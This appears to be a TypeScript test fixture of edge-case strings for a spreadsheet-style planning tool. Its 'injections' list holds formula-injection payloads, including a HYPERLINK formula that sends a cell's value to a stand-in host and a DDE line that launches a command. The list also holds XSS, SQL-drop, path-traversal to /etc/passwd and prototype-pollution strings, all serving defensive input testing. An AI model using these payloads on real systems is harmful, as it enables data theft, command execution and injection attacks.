/** The most that a cell holds. */
const LONGEST = 32_767;

/** Texts that would do something if anything took them for more than a text. */
export const injections: readonly string[] = [
  '=HYPERLINK("http://x.example/?"&A1,"qui")',
  '=1+1',
  '=cmd|" /C calc"!A0',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '<b>grassetto</b>',
  '&lt;i&gt;',
  'javascript:alert(1)',
  '${1+1}',
  '{{1+1}}',
  '%s%n',
  "'; DROP TABLE piano; --",
  '../../etc/passwd',
  '\u001b[2J\u001b[31mrosso',
  '__proto__',
  'constructor',
  'toString',
];

/** Texts that look like figures, dates or words of a plan, and are not, or not quite. */
const nearly: readonly string[] = [
  'NaN',
  'Infinity',
  '-Infinity',
  'null',
  '1e309',
  '0x10',
  '1.2.3',
  '1,2,3',
  '--',
  '٣',
  '31/02/2023',
  'Entro 99/99/9999',
  '>= >= 4',
  '>=',
  '90 % %',
  '2022 >= 1 2023 >= 2 3',
  'X < X-1',
  '+10%',
  '#N/D',
  '#REF!',
  'N.V.',
  'n.d.',
  'sì',
  'VERO',
];

/** Texts that are hard on whoever measures, compares, prints or stores them. */
const awkward: readonly string[] = [
  '',
  ' ',
  '\u00a0',
  '\n',
  'due\nrighe',
  '\u0000',
  '\u0007\u0008\u007f',
  '\ud800',
  '🙂👩‍👩‍👧‍👦',
  'e\u0301\u0301\u0301',
  '\u202eotnemiggnuiggar',
  'מדד ביצועים',
  '\ufeffCodice',
  'ﬁ',
  'İ',
  '9'.repeat(400),
  '('.repeat(400),
  'a'.repeat(LONGEST),
  '>= 1 '.repeat(6_000),
  `>= ${'9'.repeat(2_000)}`,
];

export const hostileTexts: readonly string[] = [...injections, ...nearly, ...awkward];
